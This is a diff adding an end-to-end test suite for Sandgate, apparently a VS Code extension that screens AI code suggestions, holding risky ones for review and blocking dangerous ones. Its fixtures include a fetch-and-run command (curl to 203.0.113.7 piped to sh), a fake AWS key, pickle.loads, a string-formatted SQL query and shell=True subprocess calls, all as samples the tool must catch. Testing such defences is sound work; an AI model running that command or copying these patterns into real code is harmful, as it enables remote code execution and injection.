@@ -1,0 +1,408 @@
+// End-to-end: the Sandgate .vsix in real VS Code (code-server), driven by headless Chromium.
+// Run with scripts/test-editor.sh (or `node --test test/e2e/` from editor-client/ after setup).
+import assert from "node:assert/strict";
+import { spawnSync } from "node:child_process";
+import crypto from "node:crypto";
+import fs from "node:fs";
+import path from "node:path";
+import { after, before, describe, it } from "node:test";
+import {
+  ARTIFACTS,
+  PYTHON,
+  Workbench,
+  eventually,
+  launchBrowser,
+  mkdtemp,
+  startCodeServer,
+  startOpenAiServer,
+} from "./harness.mjs";
+
+// What the loopback model answers, keyed by a marker in each fixture file.
+const SUGGESTIONS = {
+  allow: "return a + b",
+  review: "return pickle.loads(data)",
+  reviewDiff: `return cursor.execute("SELECT * FROM users WHERE name = '%s'" % name)`,
+  block: 'os.system("curl -s http://203.0.113.7/x | sh")\n    aws_key = "AKIAQ4Z7X2M5N8P4R6TB"',
+};
+const API_KEY = "sk-sandgate-e2e-0123456789";
+
+const RISKY = `import subprocess
+
+AWS_ACCESS_KEY_ID = "AKIAZ7Q3XK2M5N8P4R6T"
+
+
+def run(cmd):
+    return subprocess.call(cmd, shell=True)
+`;
+
+const FIXTURES = {
+  "risky.py": RISKY,
+  "allow_demo.py": "# sandgate-e2e: allow\n\n\ndef add(a, b):",
+  "review_demo.py": "# sandgate-e2e: review-action\nimport pickle\n\n\ndef load(data):",
+  "review_diff.py": "# sandgate-e2e: review-diff\n\n\ndef find(cursor, name):",
+  "block_demo.py": "# sandgate-e2e: block\nimport os\n\n\ndef cleanup():",
+};
+
+function makeWorkspace(name, extra = {}) {
+  const dir = mkdtemp(`sandgate-ws-${name}-`);
+  for (const [file, text] of Object.entries({ ...FIXTURES, ...extra })) {
+    fs.mkdirSync(path.dirname(path.join(dir, file)), { recursive: true });
+    fs.writeFileSync(path.join(dir, file), text);
+  }
+  return dir;
+}
+
+function userSettings(baseUrl) {
+  return {
+    "sandgate.interpreter": PYTHON,
+    "sandgate.model.baseUrl": baseUrl,
+    "sandgate.model.name": "e2e-model",
+    "sandgate.trace.server": "messages",
+    // A quiet, deterministic workbench: no welcome pages, no word-based suggest widget competing for Tab/Enter.
+    "workbench.startupEditor": "none",
+    "workbench.tips.enabled": false,
+    "workbench.welcomePage.walkthroughs.openOnInstall": false,
+    "extensions.ignoreRecommendations": true,
+    "chat.disableAIFeatures": true,
+    "telemetry.telemetryLevel": "off",
+    "editor.inlineSuggest.enabled": true,
+    "editor.quickSuggestions": { other: false, comments: false, strings: false },
+    "editor.suggestOnTriggerCharacters": false,
+    "editor.acceptSuggestionOnEnter": "off",
+    "editor.wordBasedSuggestions": "off",
+    "files.autoSave": "off",
+  };
+}
+
+const sha256 = (text) => crypto.createHash("sha256").update(text, "utf8").digest("hex");
+
+/** Runs one step; on failure keeps a screenshot named after it. */
+async function step(wb, name, body) {
+  try {
+    return await body();
+  } catch (error) {
+    await wb.screenshot(`${name}-FAILED`).catch(() => undefined);
+    throw error;
+  }
+}
+
+// The loopback model's script: the first key found in the prompt picks the completion.
+const openAiScript = {
+  "sandgate-e2e: allow": SUGGESTIONS.allow,
+  "sandgate-e2e: review-action": SUGGESTIONS.review,
+  "sandgate-e2e: review-diff": SUGGESTIONS.reviewDiff,
+  "sandgate-e2e: block": SUGGESTIONS.block,
+};
+
+fs.rmSync(ARTIFACTS, { recursive: true, force: true });
+fs.mkdirSync(ARTIFACTS, { recursive: true });
+
+describe("Sandgate in VS Code (trusted workspace)", () => {
+  let browser, model, server, wb, workspace;
+
+  before(async () => {
+    const tmp = mkdtemp("sandgate-e2e-model-");
+    // The model answers only with the key that the user stores through "Sandgate: Set API Key".
+    model = await startOpenAiServer(openAiScript, tmp, { apiKey: API_KEY });
+    workspace = makeWorkspace("trusted");
+    server = await startCodeServer({ name: "trusted", settings: userSettings(model.baseUrl), trust: true });
+    browser = await launchBrowser();
+    wb = await Workbench.open(browser, server, workspace, "trusted");
+  });
+
+  after(async () => {
+    await wb?.close().catch(() => undefined);
+    await browser?.close().catch(() => undefined);
+    await server?.stop();
+    await model?.stop();
+  });
+
+  it("shows the findings of a risky file in the Problems panel with source sandgate", async () => {
+    await step(wb, "problems", async () => {
+      await wb.openFile("risky.py");
+      await wb.screenshot("risky-file-open");
+      const text = await wb.waitForProblems((t) => /sandgate/.test(t) && /B602/.test(t) && /aws-access-key/.test(t));
+      assert.match(text, /sandgate\s*\(?B602/, "B602 finding attributed to sandgate");
+      assert.match(text, /sandgate\s*\(?aws-access-key/, "AWS key finding attributed to sandgate");
+      await wb.screenshot("problems-panel-findings");
+      const status = await wb.waitForStatus((t) => /pending/.test(t));
+      assert.doesNotMatch(status, /restricted/);
+    });
+  });
+
+  it("stores the API key with Set API Key and hands it only to the server", async () => {
+    await step(wb, "api-key", async () => {
+      const starts = () => (server.outputLog().match(/Starting .* -m sandgate serve/g) ?? []).length;
+      const before = starts();
+      assert.ok(before >= 1, "the server was started");
+      await wb.runCommand("Sandgate: Set API Key");
+      const input = wb.page.locator(".quick-input-widget input[type=password]");
+      await input.waitFor({ state: "visible", timeout: 15000 });
+      await wb.screenshot("set-api-key-prompt");
+      await input.fill(API_KEY);
+      await wb.press("Enter");
+      // The server restarts with the key in its environment; it must not appear in any settings file.
+      await eventually(() => starts() > before, { message: "server restarted after the key was set" });
+      await wb.waitForStatus((t) => /pending/.test(t) && !/sync/.test(t));
+      const settingsText = fs.readFileSync(path.join(server.userData, "User", "settings.json"), "utf8");
+      assert.ok(!settingsText.includes(API_KEY), "the API key is not written to settings.json");
+    });
+  });
+
+  it("shows an allowed suggestion as ghost text and accepts it with Tab", async () => {
+    await step(wb, "inline-allow", async () => {
+      await wb.openFile("allow_demo.py");
+      await wb.typeAtEnd("\n");
+      await wb.ghostText().first().waitFor({ state: "visible", timeout: 60000 });
+      const ghost = (await wb.ghostText().allInnerTexts()).join("").replace(/\u00a0/g, " ");
+      assert.equal(ghost.trim(), SUGGESTIONS.allow, "the ghost text is the suggestion");
+      await wb.screenshot("ghost-text-shown");
+      await wb.press("Tab");
+      await wb.save();
+      await wb.screenshot("ghost-text-accepted");
+      const saved = fs.readFileSync(path.join(workspace, "allow_demo.py"), "utf8");
+      assert.equal(saved, `${FIXTURES["allow_demo.py"]}\n    ${SUGGESTIONS.allow}`);
+      // The model server refuses requests without API_KEY: a completion means the key reached it.
+      const asked = (await model.requests()).filter((body) => JSON.stringify(body).includes("sandgate-e2e: allow"));
+      assert.ok(asked.length > 0, "the model was asked");
+    });
+  });
+
+  it("holds a risky suggestion for review, with its diagnostic and approval action; approving inserts exactly the vetted text", async () => {
+    await step(wb, "review-action", async () => {
+      await wb.openFile("review_demo.py");
+      await wb.typeAtEnd("\n");
+      await wb.waitForProblems((t) => /AI suggestion held for review/.test(t));
+      assert.equal(await wb.ghostText().count(), 0, "a held suggestion is not shown as ghost text");
+      await wb.screenshot("held-for-review-diagnostic");
+      await wb.waitForStatus((t) => /1 pending/.test(t));
+
+      // The cursor sits where the suggestion would go: the quick fix menu offers the approval.
+      await wb.focusEditor();
+      await wb.press("Control+.");
+      const review = wb.page.locator(".action-widget .monaco-list-row", { hasText: "Review and insert" }).first();
+      await review.waitFor({ state: "visible", timeout: 15000 });
+      assert.ok(await wb.page.locator(".action-widget .monaco-list-row", { hasText: "Discard" }).count());
+      await wb.screenshot("approval-action-offered");
+      await review.click();
+
+      // needsConfirmation: VS Code's Refactor Preview shows the edit, unticked, before anything is applied.
+      const preview = wb.page.locator(".bulk-edit-panel");
+      await preview.waitFor({ state: "visible", timeout: 20000 });
+      assert.equal((await preview.locator(".highlight.insert").allInnerTexts()).join(""), SUGGESTIONS.review);
+      await preview.locator(".edit-checkbox").first().click();
+      await wb.screenshot("refactor-preview");
+      await preview.locator(".monaco-button", { hasText: /^Apply$/ }).first().click();
+      await wb.waitForStatus((t) => /0 pending/.test(t));
+      await wb.press("Control+S");
+      await wb.page.waitForTimeout(500);
+      await wb.screenshot("approved-and-inserted");
+
+      const saved = fs.readFileSync(path.join(workspace, "review_demo.py"), "utf8");
+      assert.equal(saved, `${FIXTURES["review_demo.py"]}\n    ${SUGGESTIONS.review}`);
+      await assertApprovalAudited(workspace, SUGGESTIONS.review);
+    });
+  });
+
+  it("approves from the Sandgate view's command with a diff of exactly what will be inserted", async () => {
+    await step(wb, "review-diff", async () => {
+      await wb.openFile("review_diff.py");
+      await wb.typeAtEnd("\n");
+      await wb.waitForProblems((t) => /AI suggestion held for review/.test(t));
+      await wb.waitForStatus((t) => /1 pending/.test(t));
+      await wb.runCommand("Sandgate: Show Pending Suggestions");
+      const node = wb.page.locator(".monaco-list-row", { hasText: "cursor.execute" }).first();
+      await node.waitFor({ state: "visible", timeout: 20000 });
+      await wb.screenshot("suggestions-view");
+
+      await wb.runCommand("Sandgate: Approve Pending Suggestion");
+      await (await wb.quickInputRow("cursor.execute")).waitFor();
+      await wb.press("Enter");
+      const diff = wb.page.locator(".monaco-diff-editor").first();
+      await diff.waitFor({ state: "visible", timeout: 20000 });
+      const insert = await wb.dialogButton("Insert");
+      const inserted = await wb.page.locator(".monaco-diff-editor .editor.modified .line-insert, .monaco-diff-editor .modified .char-insert").count();
+      assert.ok(inserted > 0, "the diff marks the inserted text");
+      await wb.screenshot("approval-diff-preview");
+      await insert.click();
+      await wb.waitForStatus((t) => /0 pending/.test(t));
+      await wb.openFile("review_diff.py");
+      await wb.save();
+      await wb.screenshot("diff-approved-and-inserted");
+      const saved = fs.readFileSync(path.join(workspace, "review_diff.py"), "utf8");
+      assert.equal(saved, `${FIXTURES["review_diff.py"]}\n    ${SUGGESTIONS.reviewDiff}`);
+      await assertApprovalAudited(workspace, SUGGESTIONS.reviewDiff);
+    });
+  });
+
+  it("never shows a blocked suggestion", async () => {
+    await step(wb, "blocked", async () => {
+      await wb.openFile("block_demo.py");
+      await wb.typeAtEnd("\n");
+      let ghostSeen = false;
+      await eventually(
+        async () => {
+          if ((await wb.ghostText().count()) > 0) ghostSeen = true;
+          return /AI suggestion blocked/.test(await wb.problems());
+        },
+        { timeoutMs: 60000, message: "blocked diagnostic" },
+      );
+      assert.equal(ghostSeen, false, "no ghost text for a blocked suggestion");
+      await wb.screenshot("blocked-diagnostic");
+      await wb.press("Control+.");
+      await wb.page.waitForTimeout(1500);
+      const rows = await wb.page.locator(".action-widget .monaco-list-row").allInnerTexts();
+      assert.ok(!rows.some((r) => /Review and insert/.test(r)), `no action inserts a blocked suggestion (offered: ${rows.join(" | ")})`);
+      await wb.screenshot("blocked-no-insert-action");
+      await wb.press("Escape");
+      await wb.press("Tab");
+      await wb.save();
+      const saved = fs.readFileSync(path.join(workspace, "block_demo.py"), "utf8");
+      assert.ok(!saved.includes("os.system") && !saved.includes("AKIAQ4Z7X2M5N8P4R6TB"), "the blocked text never reached the file");
+    });
+  });
+
+  it("restarts a crashed server with back-off", async () => {
+    await step(wb, "crash", async () => {
+      const first = serverPids(server.userData);
+      assert.equal(first.length, 1, `one Sandgate server for this window (${first})`);
+      process.kill(first[0], "SIGKILL");
+      await eventually(() => /exited; restarting in 1 s/.test(server.outputLog()), { message: "restart scheduled" });
+      const second = await eventually(() => serverPids(server.userData).filter((pid) => pid !== first[0]).length && serverPids(server.userData), {
+        message: "a new server process",
+      });
+      assert.ok(!second.includes(first[0]));
+      await wb.waitForStatus((t) => /pending/.test(t));
+      await wb.screenshot("restarted-after-crash");
+    });
+  });
+
+  it("shows and verifies the audit log from the command palette", async () => {
+    await step(wb, "audit", async () => {
+      await wb.runCommand("Sandgate: Show Audit Log");
+      await wb.page.locator(".tab.active", { hasText: "audit.jsonl" }).waitFor({ timeout: 15000 });
+      await wb.runCommand("Sandgate: Verify Audit Log");
+      const toast = wb.page.locator(".notification-toast", { hasText: "audit log verified" }).first();
+      await toast.waitFor({ state: "visible", timeout: 30000 });
+      await wb.screenshot("audit-log-verified");
+    });
+  });
+});
+
+describe("Sandgate in VS Code (restricted workspace)", () => {
+  let browser, model, server, wb, workspace;
+
+  before(async () => {
+    const tmp = mkdtemp("sandgate-e2e-model-r-");
+    model = await startOpenAiServer(openAiScript, tmp);
+    // A broken workspace policy: a trusted server reports it (code policy-error); a restricted one never reads it.
+    workspace = makeWorkspace("restricted", { ".sandgate/policy.toml": 'version = 1\n\n[decision]\ndefault = "sometimes"\n' });
+    server = await startCodeServer({ name: "restricted", settings: userSettings(model.baseUrl), trust: false });
+    browser = await launchBrowser();
+    wb = await Workbench.open(browser, server, workspace, "restricted");
+  });
+
+  after(async () => {
+    await wb?.close().catch(() => undefined);
+    await browser?.close().catch(() => undefined);
+    await server?.stop();
+    await model?.stop();
+  });
+
+  it("runs restricted when the workspace is not trusted, and says so in the status bar", async () => {
+    await step(wb, "restricted", async () => {
+      // code-server may ask first; either way the folder must open in Restricted Mode.
+      const noTrust = wb.page.locator(".monaco-dialog-box .monaco-button", { hasText: "No, I don't trust" }).first();
+      if (await noTrust.waitFor({ state: "visible", timeout: 5000 }).then(() => true, () => false)) {
+        await wb.screenshot("trust-prompt");
+        await noTrust.click();
+      }
+      await wb.page.locator(".statusbar-item", { hasText: "Restricted Mode" }).first().waitFor({ timeout: 15000 });
+      await wb.openFile("risky.py");
+      const status = await wb.waitForStatus((t) => /restricted/.test(t) && /pending/.test(t));
+      assert.match(status, /strict/, "the strict preset applies in restricted mode");
+      // Static findings still appear: checking runs nothing from the workspace.
+      const problems = await wb.waitForProblems((t) => /sandgate/.test(t) && /B602/.test(t));
+      assert.doesNotMatch(problems, /policy-error/, "the workspace policy is not read while restricted");
+      await wb.page.locator(".statusbar-item", { hasText: "Sandgate" }).first().hover();
+      await wb.page.locator(".monaco-hover, .workbench-hover").first().waitFor({ state: "visible", timeout: 10000 }).catch(() => undefined);
+      await wb.screenshot("restricted-status-bar");
+    });
+  });
+
+  it("restarts the server as trusted when trust is granted", async () => {
+    await step(wb, "grant-trust", async () => {
+      await wb.runCommand("Workspaces: Manage Workspace Trust");
+      const trustButton = wb.page.locator(".workspace-trust-editor .monaco-button", { hasText: /^Trust( Folder)?$/ }).first();
+      await trustButton.waitFor({ state: "visible", timeout: 20000 });
+      await wb.screenshot("manage-trust");
+      await trustButton.click();
+      const status = await wb.waitForStatus((t) => !/restricted/.test(t) && /pending/.test(t));
+      assert.doesNotMatch(status, /restricted/);
+      // Restarted as trusted, the server now reads the workspace policy, and reports what is wrong with it.
+      await wb.waitForProblems((t) => /policy-error/.test(t));
+      await wb.screenshot("trusted-after-grant");
+    });
+  });
+});
+
+async function assertApprovalAudited(workspace, text) {
+  const auditFile = path.join(workspace, ".sandgate", "audit.jsonl");
+  const records = await eventually(
+    () => fs.existsSync(auditFile) && fs.readFileSync(auditFile, "utf8").trim().split("\n").filter(Boolean),
+    { message: "audit log written" },
+  );
+  const digest = sha256(text);
+  const approval = records.find((line) => /approv/i.test(line) && line.includes(digest));
+  assert.ok(approval, `an approval of sha256 ${digest} in ${auditFile}:\n${records.join("\n")}`);
+}
+
+describe("Sandgate in VS Code (Sandgate not installed in the interpreter)", () => {
+  let browser, server, wb, workspace, python;
+
+  before(async () => {
+    // A real interpreter without Sandgate: a bare virtual environment.
+    const venv = path.join(mkdtemp("sandgate-e2e-bare-"), "venv");
+    const made = spawnSync(PYTHON, ["-m", "venv", "--without-pip", venv], { encoding: "utf8" });
+    assert.equal(made.status, 0, made.stderr);
+    python = path.join(venv, "bin", "python");
+    workspace = makeWorkspace("missing");
+    server = await startCodeServer({ name: "missing", settings: { ...userSettings("http://127.0.0.1:9/v1"), "sandgate.interpreter": python } });
+    browser = await launchBrowser();
+    wb = await Workbench.open(browser, server, workspace, "missing");
+  });
+
+  after(async () => {
+    await wb?.close().catch(() => undefined);
+    await browser?.close().catch(() => undefined);
+    await server?.stop();
+  });
+
+  it("says what to do when Sandgate is not installed in the interpreter", async () => {
+    await step(wb, "not-installed", async () => {
+      await wb.openFile("risky.py");
+      const toast = wb.page.locator(".notification-toast", { hasText: "Sandgate is not installed" }).first();
+      await toast.waitFor({ state: "visible", timeout: 60000 });
+      const text = await toast.innerText();
+      assert.ok(text.includes(python), `names the interpreter: ${text}`);
+      assert.match(text, /-m pip install sandgate/);
+      assert.match(text, /sandgate\.interpreter/);
+      assert.match(await toast.innerText(), /Copy Install Command/);
+      assert.match(await wb.status(), /not installed/);
+      await wb.screenshot("not-installed-message");
+    });
+  });
+});
+
+/** Pids of the `-m sandgate serve` processes that this code-server's extension started (their cwd is its storage). */
+function serverPids(userData) {
+  const storage = path.join(userData, "User", "globalStorage", "sandgate.sandgate");
+  return fs.readdirSync("/proc").filter((d) => /^\d+$/.test(d)).map(Number).filter((pid) => {
+    try {
+      const cmdline = fs.readFileSync(`/proc/${pid}/cmdline`, "utf8").split("\0");
+      return cmdline.includes("sandgate") && cmdline.includes("serve") && fs.readlinkSync(`/proc/${pid}/cwd`) === storage;
+    } catch {
+      return false;
+    }
+  });
+}
